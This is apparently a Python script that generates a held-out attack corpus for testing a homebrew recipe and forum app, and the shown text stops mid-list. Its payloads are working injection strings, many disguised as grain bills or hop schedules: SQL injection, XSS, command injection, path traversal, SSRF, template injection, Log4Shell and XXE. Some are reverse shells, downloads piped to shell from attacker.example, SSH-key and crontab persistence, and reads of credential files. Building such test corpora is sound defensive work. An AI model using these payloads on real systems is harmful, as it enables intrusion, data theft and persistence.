"""Attack held-out corpus for the homebrew (beer, cider, mead) recipe and forum app.

Each value is a payload hand-written for this corpus (or a small template over
hand-written pools) that would work against a vulnerable version of the app placing the
field where the class says: concatenated into SQL, a shell line, a file path, a fetched
URL, a server-side template, unescaped HTML, a log line or header, an LDAP/XPath filter.
Most payloads are hidden inside homebrewing notation (grain bills, hop schedules, gravity
numbers, BeerXML/BeerJSON, brew logs). About 10% are `plain-` and about 10% carry an
encoding (+url, +url2, +html, +uni, +case, +comment, +overlong, +ipalt, ...).

Output: attacks.jsonl next to this file. Deterministic (fixed SEED, no set ordering).
"""
import json
import random
from pathlib import Path

SEED = 9702
PREFIX = "ha97"

# --------------------------------------------------------------------------- literals
# (class, value)

SQLI = [
    ("recipe_name-quote-or-tautology", "Dad's Blonde' OR 'a'='a"),
    ("recipe_name-union-select", "Citra SMaSH' UNION SELECT username, password_hash FROM users-- "),
    ("search-union-select-null", "stout' UNION ALL SELECT NULL,NULL,email,NULL FROM members#"),
    ("grain_bill-stacked-drop", "5.5 kg Maris Otter'; DROP TABLE recipes;--"),
    ("hop_schedule-time-sleep", "28 g Citra @ 10 min' AND SLEEP(6)-- -"),
    ("stats-numeric-or", "1.052 OR 1=1"),
    ("stats-numeric-union", "35 UNION SELECT id, api_token FROM brewers"),
    ("og_field-pg-sleep", "1.048; SELECT pg_sleep(7);--"),
    ("recipe_id-boolean-substring", "42 AND SUBSTRING((SELECT password FROM users WHERE id=1),1,1)='a'"),
    ("search-mssql-waitfor", "porter'; WAITFOR DELAY '0:0:8';--"),
    ("style_filter-error-extractvalue", "IPA' AND EXTRACTVALUE(1, CONCAT(0x5c, (SELECT version())))-- "),
    ("style_filter-error-updatexml", "Saison' AND updatexml(null,concat(0x3a,(select user())),null)#"),
    ("sort-order-by-case", "abv, (CASE WHEN (SELECT COUNT(*) FROM users WHERE is_admin=1)>0 THEN og ELSE ibu END)"),
    ("sort-order-by-probe", "ibu DESC, (SELECT 1 FROM (SELECT SLEEP(5))x)"),
    ("forum_post-comment-terminator", "Great recipe! admin'--"),
    ("login-or-tautology", "brewmaster' OR 1=1 LIMIT 1 -- "),
    ("yeast-sqlite-union", "US-05' UNION SELECT name, sql FROM sqlite_master--"),
    ("equipment-pg-copy-program", "G30'; COPY (SELECT '') TO PROGRAM 'curl http://attacker.example/x|sh';--"),
    ("water-boolean-blind", "Ca 50' AND (SELECT ASCII(SUBSTR(secret,1,1)) FROM settings LIMIT 1)>77 AND 'x'='x"),
    ("recipe_name-into-outfile", "Hoppy' UNION SELECT '<?php system($_GET[c]); ?>' INTO OUTFILE '/var/www/html/hop.php'-- "),
    ("search-load-file", "kölsch' UNION SELECT LOAD_FILE('/etc/passwd'),2,3-- -"),
    ("brew_log-stacked-update", "Pitched US-05 at 19°C'); UPDATE users SET role='admin' WHERE name='me';--"),
    ("tag-insert-subquery", "dry-hop', (SELECT password FROM users LIMIT 1))-- "),
    ("stats-double-quote-or", "1.010\" OR \"1\"=\"1"),
    ("recipe_id-mssql-xp-cmdshell", "7; EXEC master..xp_cmdshell 'ping 203.0.113.9';--"),
    ("search-oracle-union-dual", "lager' UNION SELECT banner, NULL FROM v$version WHERE ROWNUM=1--"),
    ("search-oracle-utl-http", "helles' || UTL_HTTP.REQUEST('http://attacker.example/'||(SELECT user FROM dual)) || '"),
    ("hop_name-like-wildcard-blind", "Citra' AND (SELECT password FROM users WHERE name='admin') LIKE 'a%'-- "),
    ("recipe_name-mysql-benchmark", "Märzen' AND BENCHMARK(20000000, SHA1('hop'))-- "),
    ("batch_id-having", "12 HAVING 1=1"),
    ("batch_id-group-by-probe", "12 GROUP BY 1,2,3,4,5,6--"),
    ("search-pg-stacked-create-role", "mead'; CREATE ROLE hopper LOGIN SUPERUSER PASSWORD 'placeholder';--"),
    ("grain_bill-json-sql-path", "Pilsner' AND JSON_EXTRACT((SELECT settings FROM config), '$.smtp_pass') IS NOT NULL-- "),
    ("beerxml-name-sqli", "<RECIPE><NAME>Stout'); DELETE FROM recipes WHERE ('1'='1</NAME></RECIPE>"),
    ("beerjson-name-sqli", "{\"name\": \"IPA' UNION SELECT token FROM sessions--\", \"type\": \"all grain\"}"),
    ("forum_search-pg-cast-error", "cider' AND 1=CAST((SELECT string_agg(usename,',') FROM pg_user) AS int)--"),
    ("equipment_id-if-sleep", "3 AND IF(1=1, SLEEP(5), 0)"),
    ("recipe_name-sqlite-randomblob", "Porter' AND 1=randomblob(500000000)-- "),
    ("stats-mssql-convert-error", "35' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sys.tables))--"),
    ("search-information-schema", "bock' UNION SELECT table_name, column_name FROM information_schema.columns-- -"),
    ("tasting_note-second-order", "Grapefruit & pine', (SELECT GROUP_CONCAT(email) FROM users), 'x"),
    ("limit-into-procedure", "10 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,version())),1)"),
    ("hop_alpha-numeric-subquery", "12.5-(SELECT COUNT(*) FROM users)"),
    ("search-backslash-escape-bypass", "saison\\' OR 1=1-- "),
    ("recipe_name-mysql-conditional-comment", "Bock'/*!50000UNION*//*!50000SELECT*/ 1,@@version-- "),
    ("search-pg-dollar-quote", "ale'; SELECT $$x$$ || current_setting('is_superuser');--"),
    ("brewer_filter-or-in-parens", "jo') OR ('1'='1"),
    ("style-between-blind", "IPA' AND (SELECT LENGTH(password) FROM users WHERE id=1) BETWEEN 8 AND 20-- "),
    ("fg_field-scientific-or", "1.010e0 OR 2>1"),
    ("search-sqlite-load-extension", "gose'; SELECT load_extension('/tmp/evil.so');--"),
    ("mash_note-pg-lo-import", "66C'; SELECT lo_import('/etc/shadow');--"),
    ("yeast_id-mssql-openrowset", "5; SELECT * FROM OPENROWSET('SQLOLEDB','Server=198.51.100.7;uid=sa;pwd=placeholder','SELECT 1');--"),
    ("search-dns-exfil-load-file", "rye' AND LOAD_FILE(CONCAT('\\\\\\\\', (SELECT password FROM users LIMIT 1), '.exfil.attacker.example\\\\a'))-- "),
    ("hop_schedule-multiline-stacked", "Magnum 20 g @ 60\nCascade 30 g @ 15'; TRUNCATE TABLE hop_inventory;--\nCascade 50 g @ 0"),
    ("plain-union-select", "' UNION SELECT 1,2,3--"),
    ("plain-or-tautology", "' or ''='"),
    ("plain-stacked-drop", "1; DROP TABLE users"),
    ("plain-time-sleep", "' AND SLEEP(10)#"),
    ("plain-order-by-probe", "1 ORDER BY 9--"),
    ("plain-pg-sleep-or", "' OR pg_sleep(5) IS NULL--"),
    ("search-union-select+comment", "lager'/**/UNION/**/SELECT/**/password,2/**/FROM/**/users--"),
    ("recipe_name-or-tautology+case", "Stout' oR 'x'='x"),
    ("search-union-select+url", "ipa%27%20UNION%20SELECT%20email%2Cpassword%20FROM%20users--%20"),
    ("search-or-tautology+url2", "mead%2527%2520OR%25201%253D1--%2520"),
    ("hop_schedule-stacked+unicode-fullwidth", "Citra \uff07; DROP TABLE hops;--"),
    ("search-union+hex-string", "pils' UNION SELECT 0x61646d696e, 2-- "),
    ("stats-char-concat", "1.05' AND password=CHAR(97,100,109,105,110)-- "),
]

XSS = [
    ("recipe_name-script-tag", "Dad's Blonde<script>fetch('//attacker.example/c?'+document.cookie)</script>"),
    ("recipe_name-img-onerror", "Citra SMaSH <img src=x onerror=alert(document.domain)>"),
    ("forum_post-svg-onload", "Tastes great! <svg onload=\"location='https://attacker.example/?s='+btoa(document.cookie)\">"),
    ("forum_post-iframe-srcdoc", "see pic: <iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>"),
    ("tasting_note-details-ontoggle", "Hazy & juicy <details open ontoggle=alert(7)>"),
    ("hop_schedule-attr-breakout", "28 g Citra @ 10 min\" onmouseover=\"alert(1)\" x=\""),
    ("hop_name-attr-breakout-single", "Mosaic' autofocus onfocus='alert(document.cookie)"),
    ("link-javascript-uri", "javascript:alert(document.cookie)//https://brewforum.example"),
    ("profile_url-javascript-uri-newline", "java\nscript:alert(1)"),
    ("style_name-textarea-breakout", "Saison</textarea><script>alert(1)</script>"),
    ("recipe_title-title-breakout", "Kölsch</title><script>new Image().src='//attacker.example/k?'+document.cookie</script>"),
    ("beerxml-notes-cdata-script", "<NOTES><![CDATA[</NOTES><script>alert(1)</script>]]></NOTES>"),
    ("beerjson-notes-html", "{\"notes\": \"<img src=1 onerror=alert(localStorage.token)>\"}"),
    ("brew_log-body-onload", "Day 3: krausen dropped <body onload=alert('brew')>"),
    ("forum_post-video-source-onerror", "<video><source onerror=\"alert(1)\"></video> my chiller setup"),
    ("forum_post-audio-onerror", "<audio src=/ onerror=prompt(1)>"),
    ("equipment-input-autofocus", "Grainfather <input autofocus onfocus=alert(1)>"),
    ("signature-a-href-js", "<a href=\"javascript:void(fetch('/api/me').then(r=>r.text()).then(t=>navigator.sendBeacon('//attacker.example',t)))\">my recipes</a>"),
    ("forum_post-marquee-onstart", "<marquee onstart=alert(1)>Brew day!</marquee>"),
    ("js_context-string-breakout", "Porter';alert(String.fromCharCode(88,83,83));//"),
    ("js_context-script-close", "IPA</script><script>alert(document.domain)</script>"),
    ("js_context-template-literal", "${alert(1)}"),
    ("json_in_script-breakout", "\"}</script><svg onload=alert(1)>"),
    ("markdown-link-js", "[my recipe](javascript:alert(1))"),
    ("markdown-image-onerror", "![hop](x\"onerror=\"alert(1))"),
    ("forum_post-object-data", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>"),
    ("forum_post-embed-src", "<embed src=\"javascript:alert(1)\">"),
    ("forum_post-form-action", "<form action=\"https://attacker.example/phish\"><input name=password placeholder=\"Re-enter password\"><button>Save recipe</button></form>"),
    ("forum_post-meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/login\">"),
    ("forum_post-base-href", "<base href=\"https://attacker.example/\">"),
    ("forum_post-style-expression", "<div style=\"background:url(javascript:alert(1))\">Stout</div>"),
    ("forum_post-svg-animate", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("forum_post-svg-set-href", "<svg><a><set attributeName=href to=javascript:alert(1) /><text y=20>OG chart</text></a></svg>"),
    ("forum_post-math-xlink", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("angular-client-template", "{{constructor.constructor('alert(1)')()}}"),
    ("vue-client-template", "<div v-html=\"'<img src=x onerror=alert(1)>'\"></div>"),
    ("grain_bill-img-onerror-multiline", "5.5 kg Maris Otter\n0.3 kg Crystal 60L\n<img src=x onerror=alert(1)>"),
    ("stats-inline-svg", "OG 1.052 <svg/onload=alert(1)>"),
    ("water-pre-breakout", "Ca 50</pre><script>alert('ppm')</script>"),
    ("forum_post-button-formaction", "<button formaction=javascript:alert(1)>Vote</button>"),
    ("forum_post-form-button-formaction", "<form><button formaction=\"javascript:alert(document.cookie)\">OG calc</button></form>"),
    ("filename-svg-upload", "label.svg\"><script>alert(1)</script>"),
    ("recipe_name-noscript-breakout", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("forum_post-style-import", "<style>@import 'https://attacker.example/x.css';</style>"),
    ("forum_post-link-stylesheet", "<link rel=stylesheet href=//attacker.example/steal.css>"),
    ("forum_post-dom-clobber", "<form id=config><input name=apiBase value=\"https://attacker.example\"></form>"),
    ("js_context-unicode-escape-breakout", "Bock\\u0027;alert(1);//"),
    ("yeast_field-onpointer", "<p onpointerenter=alert(1)>US-05</p>"),
    ("forum_post-iframe-js", "<iframe src=\"javascript:alert(`brew`)\"></iframe>"),
    ("profile-data-uri-html", "data:text/html,<script>alert(document.domain)</script>"),
    ("emoji_name-script", "🍺<script>alert('🍺')</script>"),
    ("plain-script-tag", "<script>alert(1)</script>"),
    ("plain-img-onerror", "<img src=x onerror=alert(1)>"),
    ("plain-svg-onload", "<svg onload=alert(1)>"),
    ("plain-javascript-uri", "javascript:alert(1)"),
    ("plain-body-onload", "<body onload=alert(1)>"),
    ("plain-attr-breakout", "\"><script>alert(1)</script>"),
    ("recipe_name-script-tag+html", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("link-javascript-uri+html", "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)"),
    ("forum_post-img-onerror+url", "%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"),
    ("forum_post-svg-onload+url2", "%253Csvg%2520onload%253Dalert(1)%253E"),
    ("forum_post-script-tag+case", "<ScRiPt>alert(1)</sCrIpT>"),
    ("js_context-string-breakout+uni", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"),
    ("forum_post-img-onerror+tab-newline", "<img\tsrc=x\nonerror\n=\nalert(1)>"),
]

CMDI = [
    ("label_printer-semicolon", "Dad's Blonde; curl http://attacker.example/s.sh | sh"),
    ("export_filename-subshell", "recipe_$(id).xml"),
    ("export_filename-backticks", "stout_`whoami`.beerxml"),
    ("label_printer-and", "Citra SMaSH && wget -qO- http://198.51.100.14/p | bash"),
    ("label_printer-or", "Kölsch || nc 203.0.113.5 4444 -e /bin/sh"),
    ("label_printer-pipe", "Porter | cat /etc/passwd"),
    ("convert_og-newline", "1.052\nid"),
    ("convert_og-semicolon-sleep", "1.048;sleep 9"),
    ("hop_schedule-subshell-exfil", "28 g Citra @ 10 min $(curl -d @/etc/passwd http://attacker.example/)"),
    ("grain_bill-backtick-exfil", "5.5 kg Maris Otter `nslookup $(hostname).attacker.example`"),
    ("ping_sensor-ip-chain", "192.168.1.40; cat /proc/self/environ"),
    ("ping_sensor-ip-and", "10.0.0.7 && ls -la /"),
    ("tilt_logger-dev-tcp", "purple; bash -c 'bash -i >& /dev/tcp/203.0.113.21/9001 0>&1'"),
    ("beerxml_import-path-subshell", "upload/$(rm -rf /tmp/*)recipe.xml"),
    ("pdf_export-wkhtml-args", "--enable-local-file-access --javascript-delay 1 recipe.html /tmp/out.pdf; id"),
    ("archive_name-tar-checkpoint", "--checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh"),
    ("image_resize-imagemagick-pipe", "|curl http://attacker.example/i.sh|sh;.png"),
    ("git_backup-ssh-command", "-c core.sshCommand='touch /tmp/pwned' clone"),
    ("brew_log-env-var", "Day 3 ${IFS}cat${IFS}/etc/passwd"),
    ("search_grep-arg-injection", "--include=*.conf -r password /etc"),
    ("find_recipe-exec", "x -exec sh -c 'id > /tmp/o' ;"),
    ("windows_label-ampersand", "Weißbier & type C:\\Windows\\win.ini"),
    ("windows_label-pipe-powershell", "IPA | powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/a.ps1')\""),
    ("windows_label-percent-var", "Stout %COMSPEC% /c whoami"),
    ("label_printer-process-substitution", "Saison <(curl -s http://attacker.example/q)"),
    ("convert_units-python-c", "23; python3 -c 'import os;os.system(\"id\")'"),
    ("yeast_calc-perl-e", "1.5M; perl -e 'system(\"uname -a\")'"),
    ("hostname_field-brace-expansion", "{cat,/etc/passwd}"),
    ("tilt_logger-redirect-write", "blue > /var/www/html/shell.php"),
    ("label_printer-heredoc", "Mild\ncat <<EOF > /tmp/.x\n*/1 * * * * curl attacker.example|sh\nEOF"),
    ("ferm_controller-crontab", "20C; echo '* * * * * root nc 198.51.100.3 80 -e sh' >> /etc/crontab"),
    ("equipment_name-ssh-key-write", "G30; echo ssh-ed25519 AAAAPLACEHOLDERKEY attacker@attacker.example >> ~/.ssh/authorized_keys"),
    ("export_filename-quote-breakout", "recipe'; touch /tmp/hb; echo '.xml"),
    ("export_filename-dquote-breakout", "recipe\"; id; echo \".json"),
    ("recipe_slug-glob", "/???/??t /???/p??s??"),
    ("wort_calc-ifs", "1.050;cat$IFS/etc/shadow"),
    ("water_calc-hex-printf", "50; $(printf '\\x69\\x64')"),
    ("water_calc-base64-decode", "Ca 50; echo Y2F0IC9ldGMvcGFzc3dk | base64 -d | sh"),
    ("printer_queue-lpr-option", "-o 'job-sheets=none' -P x; id #"),
    ("rsync_backup-e-option", "-e 'sh -c id' backup@host:/srv"),
    ("zip_export-T-option", "-T -TT 'sh -c id' recipes.zip"),
    ("hop_inventory-newline-chain", "Cascade\nwget http://attacker.example/m -O /tmp/m\nchmod +x /tmp/m\n/tmp/m"),
    ("brew_log-time-sleep", "09:00 mash in | sleep 15"),
    ("label_printer-curl-config", "Märzen; curl -K http://attacker.example/cfg"),
    ("brix_conv-awk-system", "22.4; awk 'BEGIN{system(\"id\")}'"),
    ("beerxml_import-xargs", "recipe.xml; find / -name '*.env' | xargs cat"),
    ("backup_target-ncat-exfil", "nas.local; tar czf - /srv/brew | nc 203.0.113.77 9000"),
    ("label_text-ansi-c-quoting", "Bock; $'\\x63\\x61\\x74' /etc/hosts"),
    ("recipe_name-env-dump", "Dunkel`env`"),
    ("plain-semicolon-id", "; id"),
    ("plain-pipe-cat", "| cat /etc/passwd"),
    ("plain-subshell-whoami", "$(whoami)"),
    ("plain-backticks-uname", "`uname -a`"),
    ("plain-and-sleep", "&& sleep 10"),
    ("plain-newline-ls", "\nls -la\n"),
    ("label_printer-semicolon+url", "Stout%3B%20curl%20http%3A%2F%2Fattacker.example%2Fx%7Csh"),
    ("export_filename-subshell+url2", "recipe%2524%2528id%2529.xml"),
    ("ping_sensor-newline+url", "10.0.0.5%0Acat%20/etc/passwd"),
    ("label_printer-quotes-split+obfuscation", "IPA; w'h'o\"am\"i"),
    ("label_printer-backslash-split+obfuscation", "IPA; c\\a\\t /e\\tc/pa\\sswd"),
    ("windows_label-caret+obfuscation", "Lager & w^h^o^a^m^i"),
]

TRAVERSAL = [
    ("beerxml_import-relative", "../../../../etc/passwd"),
    ("label_template-relative-windows", "..\\..\\..\\windows\\win.ini"),
    ("recipe_image-absolute", "/etc/shadow"),
    ("recipe_image-relative-app-config", "../../config/settings.py"),
    ("export_download-relative-env", "../../../.env"),
    ("theme_file-relative-nginx", "../../../../etc/nginx/nginx.conf"),
    ("attachment-relative-ssh", "../../../../root/.ssh/id_rsa"),
    ("attachment-proc-self", "../../../../proc/self/environ"),
    ("recipe_export-filename-prefix", "recipes/../../../../etc/hosts"),
    ("label_template-nested-dotdot", "....//....//....//etc/passwd"),
    ("label_template-nested-backslash", "....\\\\....\\\\....\\\\windows\\\\system.ini"),
    ("beerxml_import-nullbyte", "../../../etc/passwd%00.xml"),
    ("beerxml_import-nullbyte-literal", "../../../etc/passwd\u0000.beerxml"),
    ("avatar-windows-absolute", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
    ("avatar-unc-path", "\\\\198.51.100.20\\share\\logo.png"),
    ("recipe_import-file-uri", "file:///etc/passwd"),
    ("recipe_import-file-uri-windows", "file:///C:/Windows/win.ini"),
    ("language_file-relative-locale", "../../../../var/log/nginx/access.log"),
    ("brew_log_download-git", "../.git/config"),
    ("brew_log_download-docker-secret", "../../../../run/secrets/db_password"),
    ("zip_import-zip-slip-entry", "Hazy_IPA/../../../../var/www/html/hb.php"),
    ("zip_import-zip-slip-windows", "recipes\\..\\..\\..\\inetpub\\wwwroot\\x.aspx"),
    ("style_guide-k8s-token", "../../../../var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("photo-proc-cmdline", "/proc/self/cmdline"),
    ("photo-proc-fd", "/proc/self/fd/3"),
    ("template_name-dot-slash-mix", "./.././.././../etc/group"),
    ("equipment_manual-aws-creds", "../../../../home/app/.aws/credentials"),
    ("hop_photo-semicolon-suffix", "../../../etc/passwd;.jpg"),
    ("hop_photo-question-suffix", "../../../etc/passwd?.png"),
    ("label_font-trailing-dots-windows", "..\\..\\..\\boot.ini....."),
    ("recipe_pdf-absolute-app", "/app/instance/brew.sqlite"),
    ("backup_restore-relative-db", "../data/users.db"),
    ("java_war-web-inf", "../WEB-INF/web.xml"),
    ("php_include-wrapper-filter", "php://filter/convert.base64-encode/resource=../config.php"),
    ("beerxml_import-in-xml-path", "<RECIPE><IMAGE>../../../../etc/passwd</IMAGE></RECIPE>"),
    ("grain_photo-double-slash", "//etc//passwd"),
    ("plain-relative-passwd", "../../etc/passwd"),
    ("plain-windows-relative", "..\\..\\boot.ini"),
    ("plain-absolute-passwd", "/etc/passwd"),
    ("plain-proc-environ", "/proc/self/environ"),
    ("attachment-relative+url", "..%2F..%2F..%2F..%2Fetc%2Fpasswd"),
    ("attachment-relative+url2", "..%252F..%252F..%252Fetc%252Fpasswd"),
    ("attachment-dots+url-full", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fshadow"),
    ("attachment-relative+overlong", "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"),
    ("attachment-relative+overlong-3byte", "..%e0%80%af..%e0%80%afetc/hosts"),
    ("attachment-backslash+url", "..%5c..%5c..%5cwindows%5cwin.ini"),
    ("attachment-relative+unicode-fullwidth", "．．／．．／．．／etc／passwd"),
    ("attachment-relative+iis-u", "..%u2216..%u2216windows%u2216win.ini"),
]

SSRF = [
    ("beerxml_import_url-metadata-aws", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("beerxml_import_url-metadata-gcp", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("beerxml_import_url-metadata-azure", "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"),
    ("recipe_image_url-localhost-admin", "http://localhost:8080/admin/users"),
    ("recipe_image_url-loopback-redis", "http://127.0.0.1:6379/"),
    ("hop_supplier_feed-internal-es", "http://10.0.0.12:9200/_cat/indices"),
    ("webhook-internal-docker", "http://172.17.0.1:2375/containers/json"),
    ("webhook-gopher-redis", "gopher://127.0.0.1:6379/_SET%20hb%20x%0D%0ACONFIG%20SET%20dir%20/tmp%0D%0A"),
    ("webhook-dict-probe", "dict://127.0.0.1:11211/stats"),
    ("webhook-file-scheme", "file:///root/.aws/credentials"),
    ("import_url-ipv6-loopback", "http://[::1]:8000/internal/config"),
    ("import_url-ipv4-mapped-ipv6", "http://[::ffff:127.0.0.1]/admin"),
    ("import_url-zero-host", "http://0.0.0.0:5000/debug"),
    ("import_url-userinfo-confusion", "https://brewersfriend.example@127.0.0.1/admin"),
    ("import_url-userinfo-hash", "http://127.0.0.1#@recipes.example/x.xml"),
    ("import_url-redirect-open", "https://attacker.example/r?to=http://169.254.169.254/latest/user-data"),
    ("import_url-dns-rebind", "http://rebind.attacker.example:8080/recipe.xml"),
    ("import_url-nip-io-style", "http://127.0.0.1.nip.attacker.example/admin"),
    ("avatar_url-k8s-api", "https://kubernetes.default.svc/api/v1/namespaces/default/secrets"),
    ("avatar_url-consul", "http://127.0.0.1:8500/v1/kv/?recurse"),
    ("webhook-internal-postgres-http", "http://db:5432/"),
    ("webhook-internal-hostname", "http://admin-api.internal/v1/users?role=admin"),
    ("rss_feed-jar-scheme", "jar:http://attacker.example/x.zip!/recipe.xml"),
    ("rss_feed-ftp-internal", "ftp://10.1.2.3/backup/db.sql"),
    ("beerxml-external-image", "<RECIPE><IMAGE_URL>http://169.254.169.254/latest/meta-data/</IMAGE_URL></RECIPE>"),
    ("beerjson-import-url", "{\"import\": {\"url\": \"http://127.0.0.1:9000/minio/admin/v3/info\"}}"),
    ("import_url-ldap-scheme", "ldap://127.0.0.1:389/dc=brew,dc=local"),
    ("import_url-sftp-scheme", "sftp://attacker.example:22/"),
    ("import_url-tftp-scheme", "tftp://198.51.100.9/recipe.xml"),
    ("import_url-netdoc-scheme", "netdoc:///etc/passwd"),
    ("import_url-aws-ecs", "http://169.254.170.2/v2/credentials/"),
    ("import_url-alibaba-metadata", "http://100.100.100.200/latest/meta-data/"),
    ("import_url-trailing-dot", "http://localhost./server-status"),
    ("import_url-backslash-confusion", "http://recipes.example\\@127.0.0.1/"),
    ("import_url-port-scan", "http://10.0.0.1:22/"),
    ("plain-metadata", "http://169.254.169.254/"),
    ("plain-localhost", "http://localhost/"),
    ("plain-file-scheme", "file:///etc/hosts"),
    ("plain-gopher", "gopher://127.0.0.1:25/_HELO"),
    ("plain-loopback-admin", "http://127.0.0.1/admin"),
    ("import_url-metadata+ipalt-decimal", "http://2852039166/latest/meta-data/"),
    ("import_url-loopback+ipalt-hex", "http://0x7f000001:8080/"),
    ("import_url-loopback+ipalt-octal", "http://0177.0.0.1/admin"),
    ("import_url-loopback+ipalt-short", "http://127.1/"),
    ("import_url-metadata+ipalt-mixed", "http://0xa9.254.0251.0376/latest/meta-data/"),
    ("import_url-localhost+url", "http%3A%2F%2F127.0.0.1%3A6379%2F"),
    ("import_url-localhost+case", "http://LocalHost:8080/admin"),
    ("import_url-loopback+unicode-digits", "http://①②⑦.⓪.⓪.①/"),
]

CODE = [
    ("recipe_name-ssti-jinja-config", "{{ config.items() }}"),
    ("recipe_name-ssti-jinja-mro", "Dad's Blonde {{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("label_template-ssti-jinja-os", "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
    ("label_template-ssti-jinja-cycler", "{{ cycler.__init__.__globals__.os.popen('cat /etc/passwd').read() }}"),
    ("label_template-ssti-jinja-request", "{{ request.application.__globals__.__builtins__.open('/etc/passwd').read() }}"),
    ("hop_schedule-ssti-jinja-lipsum", "28 g Citra @ {{ lipsum.__globals__['os'].popen('whoami').read() }} min"),
    ("label_template-ssti-jinja-attr-filter", "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fbase\\x5f\\x5f') }}"),
    ("label_template-ssti-jinja-statement", "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='Popen' %}{{ c('id',shell=True,stdout=-1).communicate() }}{% endif %}{% endfor %}"),
    ("label_template-ssti-twig", "{{['id']|filter('system')}}"),
    ("label_template-ssti-freemarker", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
    ("label_template-ssti-velocity", "#set($rt=$class.inspect(\"java.lang.Runtime\").type.getRuntime())$rt.exec(\"id\")"),
    ("label_template-ssti-erb", "OG <%= `id` %>"),
    ("label_template-ssti-erb-file", "<%= File.read('/etc/passwd') %>"),
    ("label_template-ssti-mako", "${__import__('os').popen('id').read()}"),
    ("label_template-ssti-tornado", "{% import os %}{{ os.popen('id').read() }}"),
    ("label_template-ssti-smarty", "{system('cat /etc/passwd')}"),
    ("label_template-ssti-handlebars", "{{#with \"s\" as |string|}}{{#with string.constructor}}{{lookup this 'call'}}{{/with}}{{/with}}"),
    ("label_template-ssti-pug", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("label_template-ssti-thymeleaf", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("label_template-ssti-django-debug", "{{ settings.SECRET_KEY }}"),
    ("label_template-ssti-python-format", "{recipe.__init__.__globals__[CONFIG][SECRET_KEY]}"),
    ("spring_el-runtime", "${T(java.lang.Runtime).getRuntime().exec('curl attacker.example')}"),
    ("spring_el-processbuilder", "#{new java.lang.ProcessBuilder({'sh','-c','id'}).start()}"),
    ("ognl-struts", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("jsf_el-expression", "#{facesContext.externalContext.request.getSession().invalidate()}"),
    ("mvel-expression", "Runtime.getRuntime().exec(\"id\");"),
    ("brew_log-log4shell-ldap", "Day 3 krausen ${jndi:ldap://attacker.example/a}"),
    ("user_agent-log4shell-rmi", "${jndi:rmi://203.0.113.4:1099/obj}"),
    ("hop_name-log4shell-dns", "Citra ${jndi:dns://${env:USER}.attacker.example}"),
    ("recipe_name-log4shell-nested-lower", "${${lower:j}ndi:${lower:l}dap://attacker.example/x}"),
    ("forum_post-log4shell-default-value", "${${::-j}${::-n}${::-d}${::-i}:ldap://198.51.100.8/e}"),
    ("brew_log-log4j-env-lookup", "${env:AWS_SECRET_ACCESS_KEY}"),
    ("beerjson-prototype-pollution-proto", "{\"name\": \"IPA\", \"__proto__\": {\"isAdmin\": true}}"),
    ("beerjson-prototype-pollution-constructor", "{\"constructor\": {\"prototype\": {\"role\": \"admin\"}}}"),
    ("query_key-prototype-pollution", "__proto__[isAdmin]=true"),
    ("query_key-prototype-pollution-dotted", "constructor.prototype.outputFunctionName=x;process.mainModule.require('child_process').execSync('id');//"),
    ("beerxml-xxe-file", "<?xml version=\"1.0\"?>\n<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>\n<RECIPES><RECIPE><NAME>&x;</NAME></RECIPE></RECIPES>"),
    ("beerxml-xxe-ssrf", "<?xml version=\"1.0\"?><!DOCTYPE RECIPE [<!ENTITY m SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><RECIPE><NOTES>&m;</NOTES></RECIPE>"),
    ("beerxml-xxe-parameter-oob", "<!DOCTYPE r [<!ENTITY % d SYSTEM \"http://attacker.example/ev.dtd\"> %d;]><RECIPE/>"),
    ("beerxml-billion-laughs", "<!DOCTYPE b [<!ENTITY h \"hop\"><!ENTITY h2 \"&h;&h;&h;&h;&h;&h;&h;&h;&h;&h;\"><!ENTITY h3 \"&h2;&h2;&h2;&h2;&h2;&h2;&h2;&h2;&h2;&h2;\"><!ENTITY h4 \"&h3;&h3;&h3;&h3;&h3;&h3;&h3;&h3;&h3;&h3;\">]><RECIPE><NAME>&h4;</NAME></RECIPE>"),
    ("beerxml-xinclude", "<RECIPE xmlns:xi=\"http://www.w3.org/2001/XInclude\"><NOTES><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></NOTES></RECIPE>"),
    ("beerxml-xslt-document", "<xsl:value-of select=\"document('file:///etc/passwd')\"/>"),
    ("recipe_backup-pickle-b64", "gASVIQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=="),
    ("recipe_backup-pickle-protocol0", "cos\nsystem\n(S'id'\ntR."),
